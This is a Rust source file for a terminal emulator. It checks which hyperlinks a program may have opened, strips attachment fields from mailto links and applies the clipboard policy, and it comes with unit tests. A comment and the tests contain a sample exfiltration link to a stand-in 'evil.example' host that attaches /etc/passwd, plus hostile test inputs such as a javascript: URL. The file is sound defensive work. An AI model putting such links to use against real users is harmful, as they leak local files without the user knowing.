//! Decisions about what programs may make tern do outside their pane: open links and
//! touch the clipboard. The model only *reports* such requests (`TermEvent`s); these
//! pure functions are what the app asks before acting. See `docs/SECURITY.md`.

use crate::config::{ClipboardConfig, ClipboardPolicy};
use crate::model::ClipboardRequest;

/// Why a link is not opened.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum LinkRefusal {
    /// Only `http`, `https`, `mailto` and local `file` links open.
    Scheme,
    /// A `file://` link must name this machine (`file://HOST/path`, as `ls --hyperlink`
    /// writes it): `file:///path` and links naming another host are refused.
    FileHost,
    /// Control characters or spaces in the target (nothing legitimate has them, and an
    /// opener could misread them).
    Characters,
}

impl std::fmt::Display for LinkRefusal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            LinkRefusal::Scheme => "only http, https, mailto and local file links open",
            LinkRefusal::FileHost => "a file link must name this machine as its host",
            LinkRefusal::Characters => "the link holds control characters or spaces",
        })
    }
}

/// Whether a link target (an OSC 8 URI or a URL found in the text) may be handed to
/// the platform opener. `local_host` is this machine's host name; `localhost` is
/// accepted too. Scheme and host compare case-insensitively.
pub fn check_link(uri: &str, local_host: &str) -> Result<(), LinkRefusal> {
    if uri
        .chars()
        .any(|c| c.is_control() || c.is_whitespace() || c == '\u{feff}')
    {
        return Err(LinkRefusal::Characters);
    }
    let Some((scheme, rest)) = uri.split_once(':') else {
        return Err(LinkRefusal::Scheme);
    };
    match scheme.to_ascii_lowercase().as_str() {
        "http" | "https" if rest.starts_with("//") && rest.len() > 2 => Ok(()),
        "mailto" if !rest.is_empty() => Ok(()),
        "file" => {
            let host = rest
                .strip_prefix("//")
                .and_then(|r| r.split_once('/'))
                .map(|(host, _)| host)
                .ok_or(LinkRefusal::FileHost)?;
            let local = !host.is_empty()
                && (host.eq_ignore_ascii_case("localhost")
                    || (!local_host.is_empty() && host.eq_ignore_ascii_case(local_host)));
            if local {
                Ok(())
            } else {
                Err(LinkRefusal::FileHost)
            }
        }
        _ => Err(LinkRefusal::Scheme),
    }
}

/// What is handed to the opener for an allowed link: the link itself, except that a
/// `mailto:` link loses its `attach`/`attachment` fields (mail programs such as
/// Thunderbird attach the named file: `mailto:x@evil.example?attach=/etc/passwd`
/// would send a local file by a click).
pub fn link_for_opener(uri: &str) -> std::borrow::Cow<'_, str> {
    let Some((scheme, rest)) = uri.split_once(':') else {
        return uri.into();
    };
    if !scheme.eq_ignore_ascii_case("mailto") {
        return uri.into();
    }
    let Some((to, query)) = rest.split_once('?') else {
        return uri.into();
    };
    let attachment = |field: &&str| {
        let key = field.split('=').next().unwrap_or_default();
        let key = percent_encoding::percent_decode_str(key).decode_utf8_lossy();
        matches!(key.to_ascii_lowercase().as_str(), "attach" | "attachment")
    };
    if !query.split('&').any(|f| attachment(&f)) {
        return uri.into();
    }
    let kept: Vec<&str> = query.split('&').filter(|f| !attachment(f)).collect();
    let mut out = format!("{scheme}:{to}");
    if !kept.is_empty() {
        out.push('?');
        out.push_str(&kept.join("&"));
    }
    out.into()
}

/// This machine's host name (empty when unknown), for [`check_link`].
pub fn local_host_name() -> String {
    rustix::system::uname()
        .nodename()
        .to_string_lossy()
        .into_owned()
}

impl ClipboardConfig {
    /// What the config says to do with an OSC 52 request (reads are denied by
    /// default; writes allowed).
    pub fn policy_for(&self, request: &ClipboardRequest) -> ClipboardPolicy {
        match request {
            ClipboardRequest::Read { .. } => self.osc52_read,
            ClipboardRequest::Write { .. } => self.osc52_write,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn web_and_mail_links_open() {
        for uri in ["https://example.com/a?b", "HTTP://x.org", "mailto:a@b.c"] {
            assert_eq!(check_link(uri, "box"), Ok(()), "{uri}");
        }
    }

    /// Catches `mailto:…?attach=/etc/passwd` handed to the opener unchanged.
    #[test]
    fn mailto_links_lose_their_attachments() {
        assert_eq!(
            link_for_opener("mailto:a@evil.example?attach=/etc/passwd&subject=hi"),
            "mailto:a@evil.example?subject=hi"
        );
        assert_eq!(
            link_for_opener("MAILTO:a@b.c?Attachment=%2Fetc%2Fshadow"),
            "MAILTO:a@b.c"
        );
        assert_eq!(
            link_for_opener("mailto:a@b.c?%61ttach=/x&body=ok"),
            "mailto:a@b.c?body=ok"
        );
        assert_eq!(
            link_for_opener("mailto:a@b.c?subject=x"),
            "mailto:a@b.c?subject=x"
        );
        assert_eq!(
            link_for_opener("https://x.org/?attach=1"),
            "https://x.org/?attach=1"
        );
    }

    #[test]
    fn file_links_need_this_host() {
        assert_eq!(check_link("file://box/etc/hosts", "box"), Ok(()));
        assert_eq!(check_link("file://localhost/tmp/x", "box"), Ok(()));
        for uri in [
            "file:///etc/passwd",
            "file://other/etc/passwd",
            "file:/etc/passwd",
            "file://box",
            "file:box/x",
        ] {
            assert_eq!(check_link(uri, "box"), Err(LinkRefusal::FileHost), "{uri}");
        }
        assert_eq!(
            check_link("file://x/y", ""),
            Err(LinkRefusal::FileHost),
            "an unknown local host name accepts only localhost"
        );
    }

    #[test]
    fn odd_schemes_and_characters_are_refused() {
        for uri in [
            "javascript:alert(1)",
            "ssh://host",
            "smb://host/share",
            "x-man-page://ls",
            "data:text/html,hi",
            "https:",
            "https://",
            "mailto:",
            "",
            "no-scheme",
        ] {
            assert_eq!(check_link(uri, "box"), Err(LinkRefusal::Scheme), "{uri}");
        }
        for uri in ["https://a.b/\x1b[31m", "https://a.b/ x", "https://a\u{85}b"] {
            assert_eq!(
                check_link(uri, "box"),
                Err(LinkRefusal::Characters),
                "{uri:?}"
            );
        }
    }

    #[test]
    fn clipboard_reads_are_denied_by_default_and_writes_follow_the_config() {
        let read = ClipboardRequest::Read {
            selection: "c".into(),
        };
        let write = ClipboardRequest::Write {
            selection: "c".into(),
            base64: "aGk=".into(),
        };
        let config = ClipboardConfig::default();
        assert_eq!(config.policy_for(&read), ClipboardPolicy::Deny);
        assert_eq!(config.policy_for(&write), ClipboardPolicy::Allow);
        let locked = ClipboardConfig {
            osc52_write: ClipboardPolicy::Deny,
            ..ClipboardConfig::default()
        };
        assert_eq!(locked.policy_for(&write), ClipboardPolicy::Deny);
    }
}
